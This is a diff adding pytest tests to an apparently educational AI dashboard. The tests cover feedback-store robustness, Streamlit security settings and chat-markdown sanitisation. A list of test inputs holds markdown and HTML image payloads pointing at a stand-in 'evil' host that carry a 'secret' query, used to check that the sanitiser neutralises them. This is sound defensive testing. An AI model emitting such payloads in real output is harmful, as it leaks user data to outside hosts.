@@ -4,6 +4,11 @@ the library code behind them (dashboard/lib) is right."""
 from __future__ import annotations
 
 import json
+import os
+import sqlite3
+import subprocess
+import sys
+import tomllib
 from pathlib import Path
 
 import numpy as np
@@ -311,3 +316,237 @@ def test_parse_sentences_reports_every_change():
     assert embeddings_view.SEED_PAIR[0] in embeddings_view.PRESETS["weather"]
     with pytest.raises(ValueError, match="unknown topic"):
         embeddings_view.preset_sentences(["sports"])
+
+
+# -- training stages and the human-feedback lab -------------------------------------------------
+
+
+def stages_page(monkeypatch, db: Path) -> AppTest:
+    monkeypatch.setenv("GENAI_LAB_FEEDBACK_DB", str(db))  # never the user's runs/feedback.db
+    return page("training_stages")
+
+
+def test_training_stages_page_says_a_too_long_question_is_too_long(tmp_path, monkeypatch):
+    """A 600-character question used to replace the page with PromptTooLongError's traceback."""
+    at = stages_page(monkeypatch, tmp_path / "feedback.db")
+    assert not at.exception
+    by_label(at.text_input, "Ask the tutor").set_value("why " * 150).run()
+    assert not at.exception
+    (error,) = [e.value for e in at.error]
+    assert "too long for the tutor" in error and "context is 128 tokens" in error
+    assert "\n" not in error and "Traceback" not in error
+    assert at.subheader[-1].value == "Human-feedback lab"  # the rest of the page still renders
+    by_label(at.text_input, "Question for ranking").set_value("x" * 600).run()
+    by_label(at.button, "Sample answers").click().run()
+    assert not at.exception
+    assert [e.value for e in at.error][-1].startswith("The question is too long for the tutor")
+    assert "lab" not in at.session_state  # nothing to rank
+
+
+def test_feedback_lab_survives_a_poisoned_store_and_a_file_that_is_not_sqlite(
+    tmp_path, monkeypatch
+):
+    from core.stages.feedback import SCHEMA
+
+    db = tmp_path / "old.db"  # what an older version let in: a float ranking next to a good row
+    raw = sqlite3.connect(db)
+    raw.execute(SCHEMA)
+    raw.executemany(
+        "INSERT INTO comparisons (prompt, responses, ranking, created_at) VALUES (?, ?, ?, 'then')",
+        [("good", '["a", "b"]', "[1, 0]"), ("poison", '["a", "b"]', "[1.0, 0.0]")],
+    )
+    raw.commit()
+    raw.close()
+    at = stages_page(monkeypatch, db)
+    assert not at.exception
+    (warning,) = [w.value for w in at.warning]
+    assert warning.startswith(f"{db}: left out 1 malformed comparison(s) (ids 2;")
+    assert any(c.value.startswith(f"1 preference pairs in {db}") for c in at.caption)
+
+    not_sqlite = tmp_path / "notes.db"
+    not_sqlite.write_text("my notes, not a database\n" * 50)
+    at = stages_page(monkeypatch, not_sqlite)
+    assert not at.exception
+    assert [e.value for e in at.error] == [
+        f"{not_sqlite}: this file is not an SQLite database; move it away or use another path"
+    ]
+
+
+def test_streamlit_config_hides_tracebacks_and_keeps_xsrf_protection():
+    """Uncaught errors must not show tracebacks (server paths) in the browser. Streamlit's own
+    parser, in a fresh process started in the project root as `streamlit run` is, must read
+    these values from our file (a misspelt key would be ignored with only a log line)."""
+    raw = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
+    assert raw["client"]["showErrorDetails"] == "none"
+    assert raw["server"]["enableXsrfProtection"] is True
+    assert raw["server"]["address"] == "localhost"
+    script = (
+        "import json, sys, tomllib\n"
+        "from streamlit import config\n"
+        "opts = config.get_config_options()\n"
+        "raw = tomllib.load(open('.streamlit/config.toml', 'rb'))\n"
+        "keys = [f'{s}.{k}' for s, table in raw.items() for k in table]\n"
+        "json.dump({'unknown': [k for k in keys if k not in opts],\n"
+        "           'read': {k: [opts[k].value, opts[k].where_defined] for k in keys if k in opts},\n"
+        "           'valid': [o.value for o in config.ShowErrorDetailsConfigOptions]}, sys.stdout)\n"
+    )
+    env = {k: v for k, v in os.environ.items() if not k.startswith("STREAMLIT_")}
+    done = subprocess.run(
+        [sys.executable, "-c", script], cwd=ROOT, env=env, capture_output=True, text=True
+    )
+    assert done.returncode == 0, done.stderr
+    parsed = json.loads(done.stdout)
+    assert parsed["unknown"] == []
+    ours = str(ROOT / ".streamlit" / "config.toml")
+    assert parsed["read"]["client.showErrorDetails"] == ["none", ours]
+    assert parsed["read"]["server.enableXsrfProtection"] == [True, ours]
+    assert parsed["read"]["server.address"] == ["localhost", ours]
+    assert "none" in parsed["valid"]
+
+
+def test_lab_saves_a_ranking_once_and_names_what_is_wrong(tmp_path):
+    from dashboard.lib.stages_view import save_ranking, stored_pairs
+
+    db = tmp_path / "feedback.db"
+    answers = ["A token is a piece of text.", "A coin."]
+    assert save_ranking(db, "What is a token?", answers, [0, 1]) == (
+        "success",
+        "Saved. The store now holds 1 comparisons.",
+    )
+    assert save_ranking(db, "What is a token?", answers, [0, 1]) == (
+        "info",
+        "Already saved as comparison 1; nothing added.",
+    )
+    assert save_ranking(db, "What is a token?", answers, [1.0, 0.0]) == (
+        "error",
+        "ranking[0]: expected an int response index, got 1.0",
+    )
+    pairs, notes = stored_pairs(db)
+    assert [(p["chosen"], p["rejected"]) for p in pairs] == [tuple(answers)] and notes == []
+
+
+# -- chat page markdown -------------------------------------------------------------------------
+
+LEAKS = [  # every way we know for chat text to make the browser fetch a URL
+    "![x](https://evil/?q=secret)",
+    'see ![x](https://evil/?q=secret "title") here',
+    "![a][1]\n\n[1]: http://evil/?q=secret",
+    "![a][]\n\n[a]: http://evil/",
+    "![a]\n\n[a]: http://evil/",
+    "![\nx](http://evil/)",
+    "![x](\nhttp://evil/)",
+    "[![inner](http://evil/i.png)](http://ok/)",
+    "*![x](http://evil/)*",
+    "\\\\![x](http://evil/)",  # an escaped backslash, then an image
+    "\\![x](http://evil/) ![y](http://evil/)",
+    '<img src="http://evil/?q=secret">',
+    "text <img src='http://evil/'> text",
+    "<div>\n<img src=x>\n</div>",
+    "<!-- c --><img src=x>",
+    "</x><IMG SRC=x>",
+    "`code` ![x](http://evil/) `more`",
+    "`unclosed ![x](http://evil/)",
+    "`a\n\n![x](http://evil/)`",  # no code span across paragraphs
+    "| a | b |\n|---|---|\n| `x | ![i](http://evil/) ` |",  # cells split before code spans
+    "- item\n  ```\n  code\n- next ![y](http://evil/)",  # the list item ends the fence
+    "```\n![x](http://evil/)\n```\n![y](http://evil/)",
+    "````\n```\n![x](http://evil/)\n````\n![y](http://evil/)",
+    "```a`b\n![x](http://evil/)\n```",  # not a fence: backticks in the info string
+    "$x$ ![x](http://evil/) $y$",
+    "line\r![x](http://evil/)\r\n<img src=x>",
+]
+TRICKY = [  # no image, or one inside code: none after either
+    "<http://evil/?q=secret> and <me@evil.com>",  # autolinks: links, shown as typed
+    "``a`b ![x](http://evil/)`",
+    "> ```\n> ![x](http://evil/)\n> ```",
+]
+NORMAL = [  # renders exactly as before
+    "**bold**, *italic* and ~~gone~~",
+    "- one\n- two\n  1. nested",
+    "A [link](https://arxiv.org/abs/2106.09685) and a < b > c",
+    "Use `<|endoftext|>` to end; wow! [x](y)",
+    "```python\nif a < b:\n    print('<|im_start|>')\n```",
+    "| token | id |\n|---|---|\n| the | 464 |",
+    "> quoted\n\n# Heading\n\nCosts $5 and $6.",
+]
+
+
+def markdown_tokens(text: str) -> list:
+    """All tokens of `text`, in order, as a CommonMark + GFM-tables parser (like the browser's)
+    reads it."""
+    from markdown_it import MarkdownIt
+
+    def walk(tokens: list) -> list:
+        return [t for token in tokens for t in [token, *walk(token.children or [])]]
+
+    return walk(MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text))
+
+
+def render(text: str) -> str:
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
+
+
+@pytest.mark.parametrize("text", LEAKS + TRICKY)
+def test_chat_markdown_shows_images_and_html_as_text(text):
+    from dashboard.lib.chat_view import safe_markdown
+
+    if text in LEAKS:  # (the test cases are real: each one loads something unless made safe)
+        assert {t.type for t in markdown_tokens(text)} & {"image", "html_inline", "html_block"}
+    safe = safe_markdown(text)
+    kinds = {t.type for t in markdown_tokens(safe)}
+    assert not kinds & {"image", "html_inline", "html_block"}, safe
+    assert "<img" not in render(safe)
+    if "`" not in text and "$" not in text:  # what was typed is what is shown
+        shown = "".join(t.content for t in markdown_tokens(safe) if t.type == "text")
+        assert "![" in shown or "<" in shown
+
+
+def test_chat_markdown_keeps_everything_else_and_code_reads_the_same():
+    from dashboard.lib.chat_view import WORD_JOINER, safe_markdown
+
+    for text in NORMAL:
+        assert render(safe_markdown(text)) == render(text), text
+    code = "Try `<img src=x>`:\n\n```html\n<div>![a](b)</div>\n```"
+    safe = safe_markdown(code)
+    assert "<img" not in render(safe).replace("&lt;", "<").replace(WORD_JOINER, "X")
+    assert render(safe).replace(WORD_JOINER, "") == render(code)  # the joiner does not show
+
+
+def test_chat_markdown_never_has_an_image_or_html_in_random_text():
+    import random
+
+    from dashboard.lib.chat_view import safe_markdown
+
+    parts = ["![", "]", "(", ")", "http://e/", "`", "```", "\n", "<", "img ", ">", "\\", "[1]",
+             "]: ", "$", "|", "- ", "> ", " ", "x", "~~~", "*", "<!--", "</", "\r"]  # fmt: skip
+    rng = random.Random(0)
+    for _ in range(3000):
+        text = "".join(rng.choices(parts, k=rng.randint(1, 30)))
+        kinds = {t.type for t in markdown_tokens(safe_markdown(text))}
+        assert not kinds & {"image", "html_inline", "html_block"}, repr(text)
+
+
+@pytest.mark.slow  # loads the default chat model and MiniLM: 12-25 s
+def test_chat_page_shows_images_in_the_conversation_as_text(tmp_path, monkeypatch):
+    from langchain_core.messages import AIMessage, HumanMessage
+
+    from chat.memory import ChatStore, thread_config
+
+    db = tmp_path / "chat.sqlite"
+    monkeypatch.setenv("GENAI_LAB_CHAT_DB", str(db))
+    asked, answered = "see ![x](https://evil/?q=secret)", "**ok** <img src='https://evil/'>"
+    store = ChatStore(db)  # a saved turn whose question and answer both carry an image
+    turn = {"messages": [HumanMessage(asked), AIMessage(answered)]}
+    store.graph.update_state(thread_config("dashboard"), turn, as_node="respond")
+    store.close()
+    at = page("chat")
+    assert not at.exception
+    user, assistant = at.chat_message
+    for message, typed in ((user, asked), (assistant, answered)):
+        (body,) = [m.value for m in message.markdown]
+        tokens = markdown_tokens(body)
+        assert not {t.type for t in tokens} & {"image", "html_inline", "html_block"}
+        shown = "".join(t.content for t in tokens if t.type in ("text", "softbreak"))
+        assert typed.replace("**", "") in shown  # what was typed, shown as typed
